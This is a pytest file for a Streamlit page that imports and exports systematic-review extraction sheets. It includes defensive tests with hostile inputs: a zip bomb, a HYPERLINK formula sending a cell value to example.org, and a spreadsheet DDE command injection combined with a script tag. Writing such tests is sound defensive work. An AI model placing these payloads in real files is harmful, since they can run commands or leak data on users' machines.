"""The page of extraction sheets: everything is shown and corrected before it is stored, and text stays text."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import openpyxl
import pytest
from streamlit.testing.v1 import AppTest

from tests.ui_review import add_records, add_result, add_study, extract, settled_studies
from workbench.store import Store

Opener = Callable[..., Store]
SHEET = (
    "study,year,intervention,control,target,outcome,time,nEXP,meanEXP,sdEXP,nCON,meanCON,sdCON,rob\n"
    "Lind,2020,10 Hz rTMS,sham coil,left M1,pain NRS,end of treatment,20,4.0,1.5,19,5.5,1.6,1\n"
    "Roe,2021,10 Hz rTMS,herbal tea,left DLPFC,pain NRS,end of treatment,12,3.0,1.0,12,4.0,1.1,2\n"
    "Poe,2022,10 Hz rTMS,sham coil,left M1,pain NRS,end of treatment,twelve,3.0,1.0,12,4.0,1.1,2\n"
)


def page(view: str = "Import", reviewer: str = "ada") -> AppTest:
    at = AppTest.from_string(
        "from workbench.ui import faults\nfrom workbench.ui.pages import extraction_sheets\n"
        "faults.guarded(extraction_sheets.page)()",
        default_timeout=60,
    )
    at.query_params["reviewer"] = reviewer
    at.session_state["sheets:view"] = view
    return at.run()


def upload(at: AppTest, name: str, body: str | bytes) -> AppTest:
    content = body.encode() if isinstance(body, str) else body
    at = at.file_uploader[0].set_value((name, content, "application/octet-stream")).run()
    assert not at.exception
    return at


def shown(at: AppTest) -> str:
    return "\n".join(str(element.proto.body) for element in at.get("html"))


def said(at: AppTest) -> str:
    return " ".join(str(element.value) for element in at.error)


def labelled(elements: Any, start: str) -> Any:
    found = [element for element in elements if element.label.startswith(start)]
    assert found, f"none begins with {start!r} among {[element.label for element in elements]}"
    return found[0]


def workbook(rows: list[list[Any]], title: str = "data") -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for row in rows:
        sheet.append(row)
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def with_part(body: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            content = old.read(item)
            new.writestr(item.filename, change(content) if item.filename == part else content)
    return target.getvalue()


ROWS: list[list[Any]] = [line.split(",") for line in SHEET.splitlines()]


# ---------------------------------------------------------------------------------------------------------- the import


def test_without_a_sheet_the_page_says_what_to_do(review: Opener) -> None:
    review()
    at = page()
    assert not at.exception
    assert "one row for each result, or for each arm" in shown(at)
    at = page("Earlier imports")
    assert "No sheet was imported yet" in shown(at)
    at = page("Export")
    assert "Nothing is extracted yet" in shown(at)


def test_a_sheet_is_shown_corrected_and_imported_and_can_be_taken_back(review: Opener) -> None:
    store = review()
    at = upload(page(), "ours.csv", SHEET)
    assert labelled(at.multiselect, "Column H means").value == ["n_active"]
    assert labelled(at.multiselect, "Column N means").value == []
    assert "herbal tea" in shown(at)  # by its cell, among the problems
    assert "“twelve” is not a number" in shown(at)
    word = labelled(at.selectbox, "“herbal tea”")
    word.set_value("no sham: another treatment").run()
    labelled(at.selectbox, "On this scale").set_value("lower is better").run()
    at = labelled(at.multiselect, "Indications this result is about").set_value(["neuropathic_pain"]).run()
    at = labelled(at.selectbox, "Main indication").set_value("neuropathic_pain").run()
    assert "is none of the options" not in shown(at)
    assert "SMD" in shown(at)
    assert store.studies() == ()  # nothing is stored before it is confirmed
    labelled(at.radio, "Record as").set_value("final")
    at = labelled(at.button, "Import 3 results").click().run()
    assert not at.exception
    assert "Imported ours.csv" in shown(at)
    assert {study.label for study in store.studies()} == {"Lind 2020", "Roe 2021", "Poe 2022"}
    states = {item.answers["study_label"]: item.state for item in store.extractions() if item.form != "trial"}
    assert states == {"Lind 2020": "final", "Roe 2021": "final", "Poe 2022": "draft"}
    trials = {item.answers["study_label"]: item.state for item in store.extractions() if item.form == "trial"}
    assert trials == dict.fromkeys(states, "draft")
    assert {item.extractor for item in store.extractions()} == {"ada"}
    at = page("Earlier imports")
    assert "ours.csv" in shown(at)
    (kept,) = store.sheet_imports()
    labelled(at.selectbox, "Import").set_value(kept.id)
    labelled(at.text_input, "Why").set_value("the wrong sheet")
    at = labelled(at.button, "Take it back").click().run()
    assert store.studies() == ()
    assert "taken back by Ada Example: the wrong sheet" in shown(at)


def test_what_was_said_of_columns_is_remembered_for_the_next_sheet(review: Opener) -> None:
    review()
    at = upload(page(), "first.csv", SHEET)
    at = labelled(at.multiselect, "Column N means").set_value(["notes"]).run()
    assert labelled(at.multiselect, "Column N means").value == ["notes"]
    assert "as you said" in shown(at)
    labelled(at.button, "Import 3 results").click().run()
    at = upload(page(reviewer="ben"), "second.csv", SHEET.replace("Lind", "Lund"))
    assert labelled(at.multiselect, "Column N means").value == ["notes"]
    assert "as remembered for these headings" in shown(at)


def test_times_whose_words_leave_the_days_open_are_asked_for(review: Opener) -> None:
    store = review()
    at = upload(page(), "ours.csv", SHEET.replace("end of treatment", "week 4", 1).replace("end of treatment", "w8", 1))
    assert [field.label for field in at.text_input if field.placeholder == "days, or: not reported"] == [
        "“week 4”",
        "“w8”",
    ]
    at = labelled(at.text_input, "“week 4”").set_value("28").run()
    at = labelled(at.text_input, "“w8”").set_value("soon").run()
    assert "“soon” is not a number of days." in said(at)
    at = labelled(at.text_input, "“w8”").set_value("not reported").run()
    assert labelled(at.text_input, "“week 4”").value == "28"
    labelled(at.button, "Import 3 results").click().run()
    days = [item.answers["days_after_treatment"] for item in store.extractions() if item.form == "parallel_means"]
    assert days == [28, {"not_reported": True}, 0]


def test_a_column_taken_away_is_counted_as_not_read(review: Opener) -> None:
    review()
    at = upload(page(), "first.csv", SHEET)
    at = labelled(at.multiselect, "Column I means").set_value([]).run()
    assert "In columns that are not read" in shown(at)
    assert "not filled in: mean active" in shown(at)


def test_only_whoever_imported_or_a_lead_can_take_an_import_back(review: Opener) -> None:
    store = review()
    at = upload(page(reviewer="ben"), "ours.csv", SHEET)
    labelled(at.button, "Import 3 results").click().run()
    assert len(store.sheet_imports()) == 1
    assert not [button for button in page("Earlier imports", "cleo").button if button.label == "Take it back"]
    assert [button for button in page("Earlier imports", "ada").button if button.label == "Take it back"]  # leads


def test_a_study_of_the_review_is_found_and_can_be_chosen(review: Opener) -> None:
    store = review()
    add_records(store, (1, 2))
    lind, other = add_study(store, 1, "Lind 2020"), add_study(store, 2, "Somebody 2019")
    at = upload(page(), "ours.csv", SHEET)
    assert labelled(at.selectbox, "“Lind 2020” is").value == lind
    labelled(at.selectbox, "“Roe 2021” is").set_value(other)
    labelled(at.button, "Import 3 results").click().run()
    assert {slot.study for slot in store.results()} >= {lind, other}
    assert len(store.studies()) == 3  # Poe alone is new


# -------------------------------------------------------------------------------------------------------------- export


def test_the_export_makes_every_file_and_keeps_back_what_others_answered(review: Opener) -> None:
    store = review()
    settled_studies(store, ("Doe 2020",))
    add_records(store, (2,))
    study = add_study(store, 2, "Roe 2021")
    extract(store, study, add_result(store, study), "ben", mean_active=3.25)
    at = page("Export", "ada")
    for box in at.checkbox:
        box.set_value(True)
    at = labelled(at.button, "Make the files").click().run()
    assert not at.exception
    files, hidden, results = at.session_state["sheets:made"]
    assert set(files) == {
        "extractions.csv",
        "comparisons.csv",
        "extractions.xlsx",
        "extractions.json",
        "metapsy.csv",
        "metapsy_dictionary.csv",
    }
    assert (hidden, results) == (1, 2)
    assert not [name for name, body in files.items() if b"3.25" in body]  # ben's is not ada's to see yet
    assert "1 of 2 results" in " ".join(str(element.value) for element in at.info)
    assert len(at.get("download_button")) == 6


# ------------------------------------------------------------------------------------------------------- hostile files

HTML = "<html><body><table><tr><td>study</td></tr></table></body></html>"


@pytest.mark.parametrize(
    ("name", "body", "message"),
    [
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old Excel file"),
        ("page.csv", HTML.encode(), "is a web page"),
    ],
)
def test_what_is_no_sheet_is_refused_in_words(review: Opener, name: str, body: bytes, message: str) -> None:
    store = review()
    at = upload(page(), name, body)
    assert message in said(at)
    assert not at.multiselect
    assert store.sheet_imports() == ()


def test_a_bomb_is_not_unpacked(review: Opener) -> None:
    review()
    huge = b"<worksheet>" + b"<row/>" * 5_000_000
    body = with_part(workbook(ROWS), "xl/worksheets/sheet1.xml", lambda _: huge)
    at = upload(page(), "bomb.xlsx", body)
    assert "times its size" in said(at)


def test_a_million_empty_rows_are_passed_over(review: Opener) -> None:
    review()
    rows = b"".join(b'<row r="%d"/>' % number for number in range(10, 1_000_010))
    body = with_part(
        workbook(ROWS), "xl/worksheets/sheet1.xml", lambda old: old.replace(b"</sheetData>", rows + b"</sheetData>")
    )
    at = upload(page(), "long.xlsx", body)
    assert "1,000,000 rows without content were passed over" in shown(at)
    assert labelled(at.button, "Import 3 results")


def test_formulas_give_their_kept_value_or_say_that_there_is_none(review: Opener) -> None:
    review()
    rows = [list(row) for row in ROWS]
    rows[1][8] = '=HYPERLINK("http://example.org/?x="&A2, "4.0")'
    at = upload(page(), "formula.xlsx", workbook(rows))
    assert "holds a formula that was never computed" in shown(at)
    assert "<a " not in shown(at)


def test_text_of_a_sheet_is_never_markup_and_never_a_formula(review: Opener) -> None:
    store = review()
    nasty = "=cmd|' /C calc'!A0 <script>alert(1)</script> **bold** $x$\x07"
    body = SHEET.replace("Lind", f'"{nasty}"').replace("sham coil", f'"{nasty}"', 1)
    at = upload(page(), "nasty.csv", body)
    assert "<script>" not in shown(at)
    assert "&lt;script&gt;" in shown(at)
    assert not any("<script>" in element.label for element in at.selectbox)
    labelled(at.button, "Import 3 results").click().run()
    at = page("Export")
    at = labelled(at.button, "Make the files").click().run()
    files = at.session_state["sheets:made"][0]
    table = files["extractions.csv"].decode("utf-8-sig")
    assert "'=cmd" in table
    assert not any(cell.startswith("=") for line in table.splitlines() for cell in line.split(","))
    assert store.extractions()[0].answers["study_label"].startswith("=cmd")


def test_very_long_cells_are_cut_and_said_to_be(review: Opener) -> None:
    review()
    at = upload(page(), "long.csv", SHEET.replace("herbal tea", "x" * 50_000))
    assert "is very long; its end was cut off" in shown(at)


def test_several_sheets_of_a_workbook_can_be_chosen(review: Opener) -> None:
    review()
    book = openpyxl.load_workbook(io.BytesIO(workbook(ROWS, "numbers")))
    other = book.create_sheet("references")
    other.append(["author", "title"])
    other.append(["Lind", "A trial"])
    target = io.BytesIO()
    book.save(target)
    at = upload(page(), "two.xlsx", target.getvalue())
    chooser = labelled(at.selectbox, "Sheet")
    assert chooser.value == "numbers"
    at = chooser.set_value("references").run()
    assert not at.exception
    assert labelled(at.multiselect, "Column A means").value == ["study_label"]


def test_an_uploaded_sheet_is_given_to_others_only_once_nobody_is_to_extract_its_results(review: Opener) -> None:
    store = review()
    at = upload(page(reviewer="ben"), "ours.csv", SHEET)
    labelled(at.button, "Import 3 results").click().run()

    def files(who: str) -> list[Any]:
        return [box for box in page("Earlier imports", who).selectbox if box.label == "The file of"]

    assert files("ben")
    assert not files("cleo")
    assert not files("ada")  # a lead may extract, too
    for number, item in enumerate(store.extractions()):
        for who in ("ben", "ada"):
            final = replace(item, id=f"{who}{number}", extractor=who, state="final", revision=1)
            store.add_extraction(final)
    assert files("cleo")


def test_who_imports_anothers_very_answers_is_asked_to_vouch_for_them(review: Opener) -> None:
    store = review()
    at = upload(page(reviewer="ben"), "ours.csv", SHEET)
    labelled(at.button, "Import 3 results").click().run()
    at = upload(page(reviewer="ada"), "copy.csv", SHEET + "\n")
    at = labelled(at.button, "Import 3 results").click().run()
    assert "the very answers of another person in at least one result or trial" in " ".join(
        one.value for one in at.warning
    )
    assert {item.extractor for item in store.extractions()} == {"ben"}
    at = labelled(at.button, "Import 3 results").click().run()  # without the word nothing comes in
    assert {item.extractor for item in store.extractions()} == {"ben"}
    at = labelled(at.checkbox, "I extracted these alone").check().run()
    at = labelled(at.button, "Import 3 results").click().run()
    assert not at.exception
    assert {item.extractor for item in store.extractions()} == {"ada", "ben"}


# ---------------------------------------------------------------------------------------------------------- the trials


TRIALS = (
    "study,year,country,design,site,frequency_hz,sessions,result\n"
    "Lind,2020,Norway,parallel,M1,10,10,better\n"
    "Roe,2021,Peru,crossover,DLPFC,1,5,worse\n"
)


def test_a_sheet_that_describes_trials_is_taken_in_without_results(review: Opener) -> None:
    store = review()
    at = upload(page(), "characteristics.csv", TRIALS)
    assert "The sheet describes trials and gives no results" in shown(at)
    assert "2 trials from all rows of each study" in shown(at)
    assert "Arms: Randomised" in shown(at)  # what is still missing
    at = labelled(at.multiselect, "The trial: Conditions of the participants").set_value(["fibromyalgia"]).run()
    at = labelled(at.button, "Import 2 trials").click().run()
    assert not at.exception
    (slot, _) = store.results()
    assert slot.form == "trial"
    (lind, _) = store.extractions()
    assert lind.answers["conditions"] == ["fibromyalgia"]
    assert lind.answers["stimulation"][0]["stim_frequency_hz"] == 10


def test_rows_that_disagree_on_their_trial_are_shown_by_cell(review: Opener) -> None:
    review()
    lines = SHEET.splitlines()
    body = "\n".join([lines[0] + ",country", lines[1] + ",Norway", lines[1] + ",Sweden"])
    at = upload(page(), "ours.csv", body)
    assert "rows disagree on “Country” of the trial" in shown(at)
    assert "The rows of 1 disagree on something" in shown(at)
    assert "for the trial too" in shown(at)


def test_a_sheet_of_trials_is_given_to_others_only_once_nobody_is_to_fill_in_their_forms(review: Opener) -> None:
    store = review()
    at = upload(page(reviewer="ben"), "characteristics.csv", TRIALS)
    labelled(at.button, "Import 2 trials").click().run()

    def files(who: str) -> list[Any]:
        return [box for box in page("Earlier imports", who).selectbox if box.label == "The file of"]

    assert files("ben")
    assert not files("cleo")
    for number, item in enumerate(store.extractions()):
        for who in ("ben", "ada"):
            store.add_extraction(replace(item, id=f"{who}{number}", extractor=who, state="final", revision=1))
    assert files("cleo")


def test_the_trials_form_can_be_left_out(review: Opener) -> None:
    review()
    at = upload(page(), "ours.csv", SHEET)
    assert "About the trials" in [element.value for element in at.subheader]
    labelled(at.checkbox, "Fill in “The trial” as well").uncheck()
    at = labelled(at.button, "Read the sheet like this").click().run()
    assert not at.exception
    assert "About the trials" not in [element.value for element in at.subheader]


def test_the_size_that_is_shown_is_the_one_that_holds(review: Opener) -> None:
    review()
    assert page().file_uploader[0].proto.max_upload_size_mb == 20
